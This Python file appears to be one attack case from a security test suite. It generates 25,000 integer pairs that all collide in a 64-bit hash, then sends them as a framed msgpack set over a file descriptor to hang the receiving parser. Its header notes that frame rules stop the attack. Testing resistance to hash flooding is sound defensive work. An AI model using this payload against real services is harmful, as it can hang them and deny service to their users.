# /// attack
# tries = "answers with a set whose members all have the same hash"
# wins = "hung"
# stopped_by = ["frame rules"]
# proof = {without = ["caps", "deadlines"]}
# ///
import os
import struct

import msgpack

P1, P2, P5, M = 0x9E3779B185EBCA87, 0xC2B2AE3D27D4EB4F, 0x27D4EB2F165667C5, (1 << 64) - 1
INVERSE = pow(P2, -1, 1 << 64)


def mixed(total, lane):
    total = (total + lane * P2) & M
    return (((total << 31) | (total >> 33)) * P1) & M


def colliding(count):
    """Pairs of ints: what is left of the first in the hash, the second takes away."""
    found, first = [], 0
    while len(found) < count:
        first += 1
        second = (-mixed(P5, first) * INVERSE) & M
        if second < (1 << 61) - 1:
            found.append((first, second))
    return found


def attack():
    pairs = [[1, *pair] for pair in colliding(25_000)]
    control = msgpack.packb([[4, "value", [3, *pairs]], []])
    data = struct.pack("<4sI", b"TGB1", len(control)) + control
    while data:
        data = data[os.write(3, data) :]
